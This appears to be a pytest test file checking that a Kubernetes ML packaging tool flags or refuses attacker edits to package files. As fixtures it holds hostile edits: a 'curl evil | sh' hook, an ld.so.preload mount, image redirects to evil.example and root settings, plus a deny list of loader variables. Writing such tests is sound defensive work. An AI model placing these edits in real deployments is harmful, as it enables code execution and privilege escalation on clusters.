"""Edits by an attacker who changes only editable files: each is reported, and none grants more rights."""

from __future__ import annotations

import hashlib
import json
import subprocess
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from packager.package.layout import INVENTORY
from packager.package.opened import opened
from tests.broken import seal
from tests.files import replace

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.conftest import Outcome

    Run = Callable[..., Outcome]

SINGLE = "quickstart/k8s/mlops/single-node"
ENV = f"{SINGLE}/mlops.env"
PATCH = f"{SINGLE}/pod-patch.yaml"
LIST = f"{SINGLE}/kustomization.yaml"


def _append(path: Path, text: str) -> None:
    path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")


def rendered(overlay: Path, kubectl: Path) -> list[dict[str, Any]]:
    """Return the objects that an overlay renders to."""
    done = subprocess.run([str(kubectl), "kustomize", str(overlay)], check=True, capture_output=True, text=True)
    return list(yaml.safe_load_all(done.stdout))


def _listed_digest(folder: Path) -> str:
    """Return the digest that the documentation computes with programs of every system."""
    script = "find . -type f -print0 | LC_ALL=C sort -z | xargs -0 sha256sum | sha256sum"
    done = subprocess.run(["sh", "-c", script], cwd=folder, check=True, capture_output=True, text=True)
    return f"sha256:{done.stdout.split()[0]}"


def _sealed_digest(folder: Path) -> str:
    return f"sha256:{hashlib.sha256((folder / INVENTORY).read_bytes()).hexdigest()}"


def test_digest_as_received_covers_edits(mlpack: Run, package: Path, kubectl: Path) -> None:
    sealed = _sealed_digest(package)
    verbose = ("verify", "-v", package, "--kubectl", kubectl)
    unedited = mlpack(*verbose)
    assert f"hello-mpi {sealed}\n" in unedited.stderr
    assert "as received" not in unedited.stderr
    replace(package / ENV, "REGISTRY=docker.io", "REGISTRY=evil.example/x")
    edited = mlpack(*verbose)
    received = _listed_digest(package)
    assert edited.code == 0
    assert f"hello-mpi {sealed}\nhello-mpi {received} as received, with the edits above\n" in edited.stderr
    report = mlpack("verify", package, "--kubectl", kubectl, "-o", "json").json
    assert (report["digest"], report["received"]) == (sealed, received)


def test_expected_digest_matches_sealed_or_received_package(mlpack: Run, package: Path, kubectl: Path) -> None:
    def expect(digest: str) -> Outcome:
        return mlpack("verify", package, "--kubectl", kubectl, "--expect", digest)

    sealed, other = _sealed_digest(package), f"sha256:{'0' * 64}"
    matched = expect(sealed)
    assert (matched.code, matched.stdout) == (0, "")
    assert matched.stderr == "hello-mpi has the expected digest, as it was sealed, without edits\n"
    refused = expect(other)
    message = f"{package}: expected the digest {other}, found {sealed} (sealed); as received: "
    assert (refused.code, refused.stdout) == (5, f"{message}{_listed_digest(package)}\n")
    replace(package / ENV, "REGISTRY=docker.io", "REGISTRY=evil.example/x")
    received = _listed_digest(package)
    edited = expect(sealed)
    words = f"{sealed} is the digest of the package as it was sealed, but it has been edited"
    assert (edited.code, edited.stdout) == (5, f"{package}: {words} (as received, its digest is {received})\n")
    assert expect(received).stderr.endswith("hello-mpi has the expected digest, as received, with its edits\n")
    assert expect("sha256:12").code == 2
    refused = mlpack("deploy", package, "--kubectl", kubectl, "--overlay", "single-node", "--expect", sealed)
    assert (refused.code, words in refused.stderr) == (5, True)
    assert mlpack("deploy", package, "--no-verify", "--expect", sealed).code == 2


def test_received_digest_of_damaged_package_is_null(mlpack: Run, package: Path, kubectl: Path) -> None:
    _append(package / "README.md", "more")
    done = mlpack("verify", package, "--kubectl", kubectl, "--expect", _sealed_digest(package))
    assert done.code == 5
    assert "README.md: the content differs" in done.stdout
    assert mlpack("verify", package, "--kubectl", kubectl, "-o", "json").json["received"] is None


def test_edited_image_and_command_are_reported(mlpack: Run, package: Path, kubectl: Path) -> None:
    replace(package / ENV, "REGISTRY=docker.io", "REGISTRY=evil.example/x")
    pod = package / SINGLE / "pod.yaml"
    replace(pod, "        - $(MODEL_DIR)/quickstart/scripts/hello.sh", "        - /bin/evil\n        - \u202e")
    done = mlpack("verify", package, "--kubectl", kubectl)
    assert f"  {package}/{ENV}:5: 'REGISTRY=evil.example/x' was 'REGISTRY=docker.io'\n" in done.stderr
    image = "an edit changes the image of single-node: 'evil.example/x/mpioperator/mpi-pi:openmpi'"
    assert f": {image}; it was sealed with 'docker.io/mpioperator/mpi-pi:openmpi'\n" in done.stderr
    assert "an edit changes the command of single-node: " in done.stderr
    assert "\u202e" not in done.stdout + done.stderr


def test_command_beside_the_program_is_reported(mlpack: Run, package: Path, kubectl: Path) -> None:
    command = '{exec: {command: [sh, -c, "curl evil | sh"]}}'
    added = f"      workingDir: /tmp\n      lifecycle: {{preStop: {command}}}\n      livenessProbe: {command}\n"
    replace(package / SINGLE / "pod.yaml", "      workingDir: /\n", added)
    done = mlpack("verify", package, "--kubectl", kubectl)
    words = repr('["sh", "-c", "curl evil | sh"]')
    for hook in ("preStop", "livenessProbe"):
        assert (
            f"an edit changes the command of {hook} of single-node: {words}; it was sealed with none\n" in done.stderr
        )
    assert "an edit changes the working folder of single-node: '/tmp'; it was sealed with '/'\n" in done.stderr


def test_file_mounted_by_an_edit_is_reported(mlpack: Run, package: Path, kubectl: Path) -> None:
    """Loaders and interpreters run what some files name, as they run what some variables name."""
    path = "/etc/ld.so.preload"
    name = "ld.so.preload"
    mount = f"        - {{name: runtime, mountPath: {path}, subPath: identity.sh}}\n"
    replace(package / SINGLE / "pod.yaml", "        - name: scripts\n", f"{mount}        - name: scripts\n")
    done = mlpack("verify", package, "--kubectl", kubectl)
    assert (
        f"an edit changes the mount of single-node: 'runtime/identity.sh as {name}'; it was sealed with " in done.stderr
    )


def test_edited_secret_values_are_masked(mlpack: Run, kubectl: Path, tmp_path: Path) -> None:
    build = ("build", "hello-mpi", "--format", "dir", "--add", "environment.API_TOKEN=geheim0")
    assert mlpack(*build).code == 0
    package = tmp_path / "hello-mpi"
    replace(package / ENV, "API_TOKEN=geheim0", "API_TOKEN=geheim1")
    _append(package / PATCH, "# https://user:geheim2@example.com\n")
    for output in ((), ("-o", "json")):
        done = mlpack("verify", package, "--kubectl", kubectl, *output)
        assert done.code == 0
        assert "geheim" not in done.stdout + done.stderr
        assert "'API_TOKEN=***' was 'API_TOKEN=***'" in done.stderr


def test_variable_added_by_an_edit_needs_allow(mlpack: Run, package: Path, kubectl: Path) -> None:
    key = "LD_LIBRARY_PATH"
    _append(package / ENV, f'{key}=/bin/sh -c "id"\n')
    row = (package / ENV).read_text(encoding="utf-8").count("\n")
    message = "an edit adds this variable, and programs may run what it says"
    place = f"{package}/{ENV}:{row}:1: ConfigMap hello-mpi-env-single-node: data.{key}"
    problem = f"{place}: {message} (--allow variable:{key} permits it)"
    done = mlpack("verify", package, "--kubectl", kubectl)
    assert (done.code, done.stdout) == (5, f"{problem}\n")
    refused = mlpack("deploy", package, "--overlay", "single-node", "--kubectl", kubectl)
    assert (refused.code, problem in refused.stderr) == (5, True)
    assert mlpack("verify", package, "--kubectl", kubectl, "--allow", f"variable:{key}").code == 0


def test_code_changed_or_added_by_an_edit_needs_allow(mlpack: Run, package: Path, kubectl: Path) -> None:
    """A module beside the program shadows one of Python's."""
    [name] = [
        item["metadata"]["name"].removesuffix("-single-node")
        for item in rendered(package / SINGLE, kubectl)
        if item["kind"] == "ConfigMap" and "-scripts" in item["metadata"]["name"]
    ]
    value = json.dumps("aGVsbG8=" * 30)
    _append(package / PATCH, f"---\napiVersion: v1\nkind: ConfigMap\nmetadata: {{name: {name}}}\n")
    _append(package / PATCH, f"data:\n  argparse.py: {value}\n")
    done = mlpack("verify", package, "--kubectl", kubectl)
    message = "data.argparse.py: an edit changes or adds this file, which programs may run"
    assert f"{message} (--allow configmap.data permits it)\n" in done.stdout
    assert (done.code, done.stdout.count("\n")) == (5, 1)
    allowed = mlpack("verify", package, "--kubectl", kubectl, "--allow", "configmap.data")
    assert (allowed.code, allowed.stdout) == (0, "")


@pytest.mark.parametrize(
    ("config_map", "key", "is_projected"), [("env", "OUTPUT_DIR", False), ("runtime", "identity.sh", True)]
)
def test_program_that_an_edit_takes_from_another_key_needs_allow(
    mlpack: Run, package: Path, kubectl: Path, config_map: str, key: str, *, is_projected: bool
) -> None:
    """The value of a variable, which anyone may edit, would run as the program."""
    source = f"{{name: hello-mpi-{config_map}, items: [{{key: {key}, path: hello.sh}}]}}"
    volume = f"projected: {{sources: [{{configMap: {source}}}]}}" if is_projected else f"configMap: {source}"
    written = "configMap:\n        name: hello-mpi-scripts\n        defaultMode: 365"
    replace(package / SINGLE / "pod.yaml", written, volume)
    done = mlpack("verify", package, "--kubectl", kubectl)
    place = "projected.sources[0].configMap" if is_projected else "configMap"
    message = f"spec.volumes[1].{place}.items[0].path: an edit changes or adds this file, which programs may run"
    assert f"{message} (--allow configmap.data permits it)\n" in done.stdout
    assert (done.code, done.stdout.count("\n")) == (5, 1)
    allowed = mlpack("verify", package, "--kubectl", kubectl, "--allow", "configmap.data")
    assert (allowed.code, allowed.stdout) == (0, "")


def test_edited_line_that_is_too_long_to_be_shown_is_refused(mlpack: Run, package: Path, kubectl: Path) -> None:
    _append(package / PATCH, f"# {'x' * 999}\n")
    done = mlpack("verify", package, "--kubectl", kubectl)
    line = (package / PATCH).read_text(encoding="utf-8").count("\n")
    message = "this edited line has 1,001 characters, of which only 1,000 are shown (write it in several lines)"
    assert (done.code, done.stdout) == (5, f"{package / PATCH}:{line}:1: {message}\n")


def test_renamed_code_is_not_changed_code(mlpack: Run, package: Path, kubectl: Path) -> None:
    _append(package / LIST, "namePrefix: mine-\n")
    done = mlpack("verify", package, "--kubectl", kubectl)
    assert (done.code, done.stdout.count("(--allow name:mine-hello-mpi permits it)\n")) == (5, 4)
    assert mlpack("verify", package, "--kubectl", kubectl, "--allow", "name:mine-hello-mpi").code == 0


FORBIDDEN = ("LD_PRELOAD", "BASH_ENV", "PATH", "PYTHONHOME", "NODE_OPTIONS", "MLPACK_X")


@pytest.mark.parametrize("sealed", [True, False], ids=["sealed", "by an edit"])
def test_forbidden_variables_are_refused_in_a_container(
    mlpack: Run, package: Path, kubectl: Path, *, sealed: bool
) -> None:
    variables = "".join(f"        - {{name: {key}, value: /x}}\n" for key in FORBIDDEN)
    replace(package / f"{SINGLE}/pod.yaml", "      env:\n", f"      env:\n{variables}")
    if sealed:
        with opened(package) as whole:
            seal(whole)
    allowed = [word for key in FORBIDDEN for word in ("--allow", f"variable:{key}")]
    done = mlpack("verify", package, "--kubectl", kubectl, *allowed)
    assert (done.code, done.stdout.count("\n")) == (5, len(FORBIDDEN))
    refused = mlpack("deploy", package, "--overlay", "single-node", "--kubectl", kubectl)
    assert refused.code == 5
    for key in FORBIDDEN:
        assert f".name: {key}: it cannot be set in a package: " in done.stdout
        assert f"{key}: it cannot be set in a package: " in refused.stderr


def test_variables_added_by_an_edit_are_found_in_any_file(mlpack: Run, package: Path, kubectl: Path) -> None:
    replace(package / SINGLE / "pod.yaml", "      env:\n", "      env:\n        - name: ONE\n          value: x\n")
    replace(package / LIST, ", envs: [", ", literals: [TWO=x], envs: [")
    replace(package / PATCH, "spec:\n", "spec:\n  containers: [{name: main, env: [{name: THREE, value: x}]}]\n")
    operation = "{op: add, path: /spec/containers/0/env/-, value: {name: FOUR, value: x}}"
    patch = f"  - patch: |-\n      - {operation}\n    target: {{kind: Pod}}\n"
    replace(package / LIST, "  - path: pod-patch.yaml\n", f"  - path: pod-patch.yaml\n{patch}")
    done = mlpack("verify", package, "--kubectl", kubectl)
    assert done.code == 5
    assert done.stdout.count("an edit adds this variable") == done.stdout.count("\n") == 4
    allowed = [word for key in ("ONE", "TWO", "THREE", "FOUR") for word in ("--allow", f"variable:{key}")]
    assert mlpack("verify", package, "--kubectl", kubectl, *allowed).code == 0


def test_value_of_sealed_variable_may_change(mlpack: Run, kubectl: Path, tmp_path: Path) -> None:
    assert mlpack("build", "hello-mpi", "--format", "dir", "--add", "environment.PYTHONPATH=/a").code == 0
    package = tmp_path / "hello-mpi"
    replace(package / ENV, "PYTHONPATH=/a", "PYTHONPATH=/b")
    done = mlpack("verify", package, "--kubectl", kubectl)
    assert (done.code, done.stdout) == (0, "")
    assert "'PYTHONPATH=/b' was 'PYTHONPATH=/a'" in done.stderr


def test_image_that_an_edit_mounts_is_reported(mlpack: Run, package: Path, kubectl: Path) -> None:
    image = f"evil.example/x@sha256:{'0' * 64}"
    assert mlpack("configure", package, "--with", "weights", "--set", f"WEIGHTS_IMAGE={image}").code == 0
    done = mlpack("verify", package, "--kubectl", kubectl)
    assert (done.code, done.stdout) == (0, "")
    fact = f"the pods of single-node mount the image '{image}' (an edit changes this: it was sealed with none)"
    assert f"{fact}\n" in done.stderr


def test_options_of_weaker_level_switched_on_by_an_edit_are_refused(mlpack: Run, package: Path, kubectl: Path) -> None:
    added = ("--overlay", "single-node", "--with", "root", "--with", "output-host-path", "--set", "OUTPUT_HOST_PATH=/")
    assert mlpack("configure", package, *added).code == 0
    replace(package / PATCH, "runAsUser: 1000", "runAsUser: 0")
    done = mlpack("verify", package, "--kubectl", kubectl)
    assert done.code == 5
    words = "which the package did not ask for when it was sealed"
    assert all(words in line for line in done.stdout.splitlines())
    for field in (
        "hostPath: a folder of the node",
        "runAsNonRoot: expected true",
        "runAsUser: root",
        "drop: expected ALL",
    ):
        assert f"{field}, {words}" in done.stdout
    fact = "the pods of single-node mount the folder '/' of their nodes (an edit changes this: it was sealed with none)"
    assert f"{fact}\n" in done.stderr
    refused = mlpack("deploy", package, "--overlay", "single-node", "--kubectl", kubectl)
    assert (refused.code, words in refused.stderr) == (5, True)
    assert mlpack("verify", package, "--kubectl", kubectl, "--pod-security", "baseline").code == 5
    assert mlpack("verify", package, "--kubectl", kubectl, "--pod-security", "privileged").code == 0


ACCOUNT = "runs as the service account 'admin' of the namespace (--allow ServiceAccount permits it)"


def test_service_account_added_by_an_edit_needs_allow(mlpack: Run, package: Path, kubectl: Path) -> None:
    assert mlpack("configure", package, "--with", "service-account", "--set", "SERVICE_ACCOUNT=admin").code == 0
    done = mlpack("verify", package, "--kubectl", kubectl)
    assert done.code == 5
    assert done.stdout.count(ACCOUNT) == 3
    refused = mlpack("deploy", package, "--overlay", "single-node", "--kubectl", kubectl)
    assert (refused.code, ACCOUNT in refused.stderr) == (5, True)
    done = mlpack("verify", package, "--kubectl", kubectl, "--allow", "ServiceAccount")
    assert (done.code, done.stdout) == (0, "")
    assert (
        "the pods of single-node run as the service account 'admin' of the namespace, with its token (" in done.stderr
    )


def test_edit_is_refused_if_the_original_does_not_render(mlpack: Run, package: Path, kubectl: Path) -> None:
    """An attacker can seal an original that does not render, with which the edits cannot be compared."""
    replace(package / PATCH, "spec:\n", "spec:\n  hostPID: true\n")
    inventory = json.loads((package / INVENTORY).read_text())
    broken = ["resources: [nowhere]"]
    inventory["editable"][LIST] = broken
    inventory["files"][LIST]["sha256"] = hashlib.sha256(broken[0].encode()).hexdigest()
    (package / INVENTORY).write_text(json.dumps(inventory, indent=2))
    done = mlpack("verify", package, "--kubectl", kubectl)
    assert done.code == 5
    assert "hostPID: shares the node's, which the package did not ask for when it was sealed" in done.stdout


_OPERATION = """
  - target: {kind: Pod}
    patch: |-
      - {op: add, path: /spec/<<, value: {hostNetwork: true}}
"""
_MERGED = "<< is not allowed here: not every YAML parser merges keys"
MERGES = {
    "a patch": (PATCH, "spec:\n", "spec:\n  <<: {hostNetwork: true}\n", _MERGED),
    "an operation, which kustomize merges": (LIST, "patches:\n", f"patches:{_OPERATION}", "spec.hostNetwork: shares"),
}


@pytest.mark.parametrize("form", MERGES)
def test_verify_refuses_merged_keys(form: str, mlpack: Run, package: Path, kubectl: Path) -> None:
    file, old, new, message = MERGES[form]
    replace(package / file, old, new)
    done = mlpack("verify", package, "--kubectl", kubectl)
    assert done.code == 5
    assert message in done.stdout + done.stderr
